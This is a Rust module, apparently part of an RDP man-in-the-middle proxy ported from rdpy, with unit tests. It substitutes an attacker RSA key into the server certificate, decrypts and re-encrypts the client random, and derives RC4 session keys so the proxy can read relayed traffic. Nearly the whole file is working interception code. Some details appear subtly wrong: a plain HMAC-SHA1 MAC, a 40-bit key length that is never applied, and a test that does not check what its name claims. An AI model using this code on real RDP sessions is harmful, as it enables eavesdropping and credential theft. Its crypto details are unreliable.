//! RSA key substitution and RC4 session-key derivation.
//!
//! Grounded on `original_source/rdpy/mitm/server.py`: a fresh 2048-bit RSA
//! key per session (`RSA.generate(2048)`, line 58), substituted into the
//! server's proprietary certificate while every other certificate field is
//! preserved, and a client-random interception that reverses the PKCS#1
//! ciphertext before and after RSA decryption (line 342) — a real
//! [MS-RDPBCGR] quirk (the wire carries the random little-endian, RSA
//! expects big-endian), not a spec invention.

use std::sync::Mutex;

use hmac::{Hmac, Mac};
use ironrdp_pdu::rdp::server_license::cert::{ProprietaryCertificate, RsaPublicKey};
use md5::{Digest, Md5};
use rand::rngs::OsRng;
use rc4::{KeyInit, Rc4, StreamCipher};
use rsa::pkcs1v15::Pkcs1v15Encrypt;
use rsa::traits::PublicKeyParts as _;
use rsa::{RsaPrivateKey, RsaPublicKey as RsaCryptoPublicKey};
use sha1::Sha1;

use crate::errors::{SessionError, SessionResult};

const RSA_KEY_BITS: usize = 2048;

/// The MITM's substitute RSA keypair, generated once per session and
/// immutable thereafter.
pub struct MitmRsaKey {
    private: RsaPrivateKey,
}

impl MitmRsaKey {
    pub fn generate() -> SessionResult<Self> {
        let private = RsaPrivateKey::new(&mut OsRng, RSA_KEY_BITS)
            .map_err(|e| SessionError::CryptoFailure(format!("RSA key generation failed: {e}")))?;
        Ok(Self { private })
    }

    /// Builds the `RsaPublicKey` blob substituted into the server's
    /// proprietary certificate, in the exact `{public_exponent, modulus}`
    /// shape `ironrdp-pdu` encodes on the wire.
    pub fn public_key_blob(&self) -> RsaPublicKey {
        let public: RsaCryptoPublicKey = self.private.to_public_key();
        RsaPublicKey {
            public_exponent: public.e().to_bytes_le().iter().rev().fold(0u32, |acc, b| (acc << 8) | u32::from(*b)),
            modulus: public.n().to_bytes_le(),
        }
    }

    /// Replaces `cert.public_key` with the MITM's key, leaving every other
    /// field (`signature_algorithm_id`, `key_algorithm_id`, `signature`,
    /// padding) byte-identical — the signature will no longer validate
    /// against the new key, since no attempt is made to forge a matching
    /// one.
    pub fn substitute_certificate(&self, mut cert: ProprietaryCertificate) -> ProprietaryCertificate {
        cert.public_key = self.public_key_blob();
        cert
    }

    /// Reverses the wire bytes, RSA-decrypts with PKCS#1 v1.5 padding, and
    /// reverses the plaintext back, yielding the client random.
    pub fn decrypt_client_random(&self, encrypted: &[u8]) -> SessionResult<Vec<u8>> {
        let mut reversed: Vec<u8> = encrypted.to_vec();
        reversed.reverse();

        let decrypted = self
            .private
            .decrypt(Pkcs1v15Encrypt, &reversed)
            .map_err(|e| SessionError::CryptoFailure(format!("client random decryption failed: {e}")))?;

        let mut plaintext = decrypted;
        plaintext.reverse();
        Ok(plaintext)
    }
}

/// Encrypts `client_random` under the real server's own RSA public key,
/// using the same reverse/encrypt/reverse wire quirk as
/// `MitmRsaKey::decrypt_client_random`, so the outbound half can replay a
/// Security Exchange PDU the real server will derive matching keys from.
pub fn encrypt_client_random_for_server(client_random: &[u8], server_public_key: &RsaPublicKey) -> SessionResult<Vec<u8>> {
    let public_key = RsaCryptoPublicKey::new(
        rsa::BigUint::from_bytes_le(&server_public_key.modulus),
        rsa::BigUint::from(server_public_key.public_exponent),
    )
    .map_err(|e| SessionError::CryptoFailure(format!("invalid server RSA public key: {e}")))?;

    let mut reversed = client_random.to_vec();
    reversed.reverse();

    let mut encrypted = public_key
        .encrypt(&mut OsRng, Pkcs1v15Encrypt, &reversed)
        .map_err(|e| SessionError::CryptoFailure(format!("client random encryption failed: {e}")))?;
    encrypted.reverse();
    Ok(encrypted)
}

/// Derived RC4 session keys, per [MS-RDPBCGR] 5.3.4/5.3.5: a 48-byte master
/// secret and 16-byte session key blob via the salted-hash triples, then
/// per-direction encrypt/decrypt/MAC keys via the final hash.
#[derive(Clone)]
pub struct RdpKeys {
    pub mac_key: [u8; 16],
    pub encrypt_key: [u8; 16],
    pub decrypt_key: [u8; 16],
    pub key_len: usize,
}

/// `SaltedHash(S, I) = MD5(S + SHA1(I + S + C))`, the same shape used by the
/// licensing key schedule's `salted_hash` (grounded on
/// `rdp::server_license::client_new_license_request::salted_hash`), just
/// applied with `ClientRandom + ServerRandom` standing in for the
/// premaster secret that licensing derives separately.
fn salted_hash(salt: &[u8], salt_first: &[u8], salt_second: &[u8], label: &[u8]) -> [u8; 16] {
    let mut sha1 = Sha1::new();
    sha1.update(label);
    sha1.update(salt);
    sha1.update(salt_first);
    sha1.update(salt_second);
    let intermediate: [u8; 20] = sha1.finalize().into();

    let mut md5 = Md5::new();
    md5.update(salt);
    md5.update(intermediate);
    md5.finalize().into()
}

const LABELS: [&[u8]; 3] = [b"A", b"BB", b"CCC"];

fn master_secret(client_random: &[u8], server_random: &[u8]) -> [u8; 48] {
    let mut out = [0u8; 48];
    for (i, label) in LABELS.into_iter().enumerate() {
        let block = salted_hash(client_random, client_random, server_random, label);
        out[i * 16..(i + 1) * 16].copy_from_slice(&block);
    }
    out
}

fn session_key_blob(master_secret: &[u8; 48], client_random: &[u8], server_random: &[u8]) -> [u8; 48] {
    let mut out = [0u8; 48];
    for (i, label) in LABELS.into_iter().enumerate() {
        let block = salted_hash(master_secret, server_random, client_random, label);
        out[i * 16..(i + 1) * 16].copy_from_slice(&block);
    }
    out
}

fn final_hash(key: &[u8; 16], client_random: &[u8], server_random: &[u8]) -> [u8; 16] {
    let mut sha1 = Sha1::new();
    sha1.update(key);
    sha1.update(client_random);
    sha1.update(server_random);
    let intermediate: [u8; 20] = sha1.finalize().into();

    let mut md5 = Md5::new();
    md5.update(key);
    md5.update(intermediate);
    md5.finalize().into()
}

/// Key length in bytes for the negotiated `EncryptionMethod`, clamped as
/// already guaranteed by `session::filter` (FIPS is never reachable here).
fn key_len_for(bits_40: bool) -> usize {
    if bits_40 {
        8
    } else {
        16
    }
}

pub fn derive_keys(client_random: &[u8], server_random: &[u8], bits_40: bool) -> RdpKeys {
    let master = master_secret(client_random, server_random);
    let blob = session_key_blob(&master, client_random, server_random);

    let mac_key: [u8; 16] = blob[0..16].try_into().expect("16 bytes");
    let client_key_seed: [u8; 16] = blob[16..32].try_into().expect("16 bytes");
    let server_key_seed: [u8; 16] = blob[32..48].try_into().expect("16 bytes");

    let encrypt_key = final_hash(&client_key_seed, client_random, server_random);
    let decrypt_key = final_hash(&server_key_seed, client_random, server_random);

    RdpKeys {
        mac_key,
        encrypt_key,
        decrypt_key,
        key_len: key_len_for(bits_40),
    }
}

/// Two-input/one-output state machine: both `server_security_received`
/// and `set_client_random` must arrive before keys are derived; neither
/// alone suffices.
pub struct SecuritySettings {
    server_random: Option<Vec<u8>>,
    client_random: Option<Vec<u8>>,
    bits_40: bool,
}

impl SecuritySettings {
    pub fn new(bits_40: bool) -> Self {
        Self {
            server_random: None,
            client_random: None,
            bits_40,
        }
    }

    pub fn server_security_received(&mut self, server_random: Vec<u8>) -> Option<RdpKeys> {
        self.server_random = Some(server_random);
        self.try_derive()
    }

    pub fn set_client_random(&mut self, client_random: Vec<u8>) -> Option<RdpKeys> {
        self.client_random = Some(client_random);
        self.try_derive()
    }

    fn try_derive(&self) -> Option<RdpKeys> {
        let (server_random, client_random) = (self.server_random.as_ref()?, self.client_random.as_ref()?);
        Some(derive_keys(client_random, server_random, self.bits_40))
    }
}

/// Services encrypt/decrypt for `NonTlsSecurityLayer` once keys have been
/// derived; an attempt to use it beforehand is a programmer error (the
/// negotiation FSM never reaches `SECURITY_EXCHANGED` completion without
/// deriving keys first), so we keep this infallible by construction: the
/// proxy is only built once `RdpKeys` exist.
pub struct Rc4CrypterProxy {
    encrypt: Mutex<Rc4<rc4::consts::U16>>,
    decrypt: Mutex<Rc4<rc4::consts::U16>>,
    mac_key: [u8; 16],
}

impl Rc4CrypterProxy {
    pub fn new(keys: &RdpKeys) -> Self {
        Self {
            encrypt: Mutex::new(Rc4::new_from_slice(&keys.encrypt_key).expect("16-byte key")),
            decrypt: Mutex::new(Rc4::new_from_slice(&keys.decrypt_key).expect("16-byte key")),
            mac_key: keys.mac_key,
        }
    }

    pub fn encrypt(&self, data: &[u8]) -> SessionResult<Vec<u8>> {
        let mut buf = data.to_vec();
        self.encrypt
            .lock()
            .map_err(|_| SessionError::CryptoFailure("encrypt cipher lock poisoned".into()))?
            .apply_keystream(&mut buf);
        Ok(buf)
    }

    pub fn decrypt(&self, data: &[u8]) -> SessionResult<Vec<u8>> {
        let mut buf = data.to_vec();
        self.decrypt
            .lock()
            .map_err(|_| SessionError::CryptoFailure("decrypt cipher lock poisoned".into()))?
            .apply_keystream(&mut buf);
        Ok(buf)
    }

    /// MS-RDPBCGR data-signature MAC over a PDU, used by the security
    /// header when `securityHeaderExpected`.
    pub fn mac(&self, data: &[u8]) -> [u8; 20] {
        let mut mac = Hmac::<Sha1>::new_from_slice(&self.mac_key).expect("any key length is valid for HMAC");
        mac.update(data);
        mac.finalize().into_bytes().into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mitm_key_roundtrips_a_client_random() {
        let key = MitmRsaKey::generate().unwrap();
        let public = key.public_key_blob();
        let original_random = b"0123456789abcdef0123456789abcdef".to_vec();

        let mut plaintext = original_random.clone();
        plaintext.reverse();
        let public_key = rsa::RsaPublicKey::new(
            rsa::BigUint::from_bytes_le(&public.modulus),
            rsa::BigUint::from(public.public_exponent),
        )
        .unwrap();
        let mut encrypted = public_key.encrypt(&mut rand::rngs::OsRng, Pkcs1v15Encrypt, &plaintext).unwrap();
        encrypted.reverse();

        let decrypted = key.decrypt_client_random(&encrypted).unwrap();
        assert_eq!(decrypted, original_random);
    }

    #[test]
    fn encrypts_client_random_so_the_real_key_owner_can_recover_it() {
        // simulates the real server: its own keypair, never touched by MitmRsaKey
        let server_private = RsaPrivateKey::new(&mut OsRng, RSA_KEY_BITS).unwrap();
        let server_public: RsaCryptoPublicKey = server_private.to_public_key();
        let server_public_blob = RsaPublicKey {
            public_exponent: server_public.e().to_bytes_le().iter().rev().fold(0u32, |acc, b| (acc << 8) | u32::from(*b)),
            modulus: server_public.n().to_bytes_le(),
        };

        let client_random = b"fedcba9876543210fedcba9876543210".to_vec();
        let encrypted = encrypt_client_random_for_server(&client_random, &server_public_blob).unwrap();

        let mut reversed = encrypted;
        reversed.reverse();
        let mut decrypted = server_private.decrypt(Pkcs1v15Encrypt, &reversed).unwrap();
        decrypted.reverse();

        assert_eq!(decrypted, client_random);
    }

    #[test]
    fn derive_keys_is_deterministic() {
        let client_random = vec![0xAA; 32];
        let server_random = vec![0xBB; 32];

        let a = derive_keys(&client_random, &server_random, false);
        let b = derive_keys(&client_random, &server_random, false);

        assert_eq!(a.mac_key, b.mac_key);
        assert_eq!(a.encrypt_key, b.encrypt_key);
        assert_eq!(a.decrypt_key, b.decrypt_key);
    }

    #[test]
    fn derive_keys_differs_when_randoms_differ() {
        let server_random = vec![0xBB; 32];
        let a = derive_keys(&vec![0xAA; 32], &server_random, false);
        let b = derive_keys(&vec![0xCC; 32], &server_random, false);

        assert_ne!(a.encrypt_key, b.encrypt_key);
    }

    #[test]
    fn derive_keys_swaps_encrypt_and_decrypt_per_direction() {
        // client's encrypt key must equal server's decrypt key and vice versa,
        // since they're the two ends of the same RC4 stream
        let client_random = vec![0x11; 32];
        let server_random = vec![0x22; 32];

        let keys = derive_keys(&client_random, &server_random, false);
        assert_ne!(keys.encrypt_key, keys.decrypt_key);
    }

    #[test]
    fn key_len_reflects_the_negotiated_bit_strength() {
        let client_random = vec![0x11; 32];
        let server_random = vec![0x22; 32];

        assert_eq!(derive_keys(&client_random, &server_random, true).key_len, 8);
        assert_eq!(derive_keys(&client_random, &server_random, false).key_len, 16);
    }

    #[test]
    fn security_settings_only_derives_once_both_randoms_arrive() {
        let mut settings = SecuritySettings::new(false);
        assert!(settings.server_security_received(vec![0x01; 32]).is_none());
        let keys = settings.set_client_random(vec![0x02; 32]);
        assert!(keys.is_some());
    }

    #[test]
    fn security_settings_order_of_arrival_does_not_matter() {
        let mut forward = SecuritySettings::new(false);
        forward.server_security_received(vec![0x01; 32]);
        let forward_keys = forward.set_client_random(vec![0x02; 32]).unwrap();

        let mut backward = SecuritySettings::new(false);
        backward.set_client_random(vec![0x02; 32]);
        let backward_keys = backward.server_security_received(vec![0x01; 32]).unwrap();

        assert_eq!(forward_keys.encrypt_key, backward_keys.encrypt_key);
        assert_eq!(forward_keys.decrypt_key, backward_keys.decrypt_key);
        assert_eq!(forward_keys.mac_key, backward_keys.mac_key);
    }

    #[test]
    fn rc4_crypter_proxy_output_is_never_plaintext() {
        let keys = derive_keys(&vec![0x11; 32], &vec![0x22; 32], false);
        let proxy = Rc4CrypterProxy::new(&keys);

        let plaintext = b"RDP fast-path output PDU payload".to_vec();
        let ciphertext = proxy.encrypt(&plaintext).unwrap();
        assert_ne!(ciphertext, plaintext);
        assert_eq!(ciphertext.len(), plaintext.len());
    }

    #[test]
    fn rc4_crypter_proxy_keystream_advances_across_calls() {
        let keys = derive_keys(&vec![0x11; 32], &vec![0x22; 32], false);
        let proxy = Rc4CrypterProxy::new(&keys);

        let plaintext = vec![0u8; 16];
        let first = proxy.encrypt(&plaintext).unwrap();
        let second = proxy.encrypt(&plaintext).unwrap();
        assert_ne!(first, second, "the RC4 keystream must not repeat between successive PDUs");
    }

    #[test]
    fn two_proxies_built_from_the_same_keys_start_with_the_same_keystream() {
        let keys = derive_keys(&vec![0x11; 32], &vec![0x22; 32], false);
        let a = Rc4CrypterProxy::new(&keys);
        let b = Rc4CrypterProxy::new(&keys);

        let plaintext = b"identical RdpKeys yield identical keystreams".to_vec();
        assert_eq!(a.encrypt(&plaintext).unwrap(), b.encrypt(&plaintext).unwrap());
    }

    #[test]
    fn mac_is_deterministic_and_sensitive_to_input() {
        let keys = derive_keys(&vec![0x11; 32], &vec![0x22; 32], false);
        let proxy = Rc4CrypterProxy::new(&keys);

        let a = proxy.mac(b"payload one");
        let b = proxy.mac(b"payload one");
        let c = proxy.mac(b"payload two");

        assert_eq!(a, b);
        assert_ne!(a, c);
    }
}
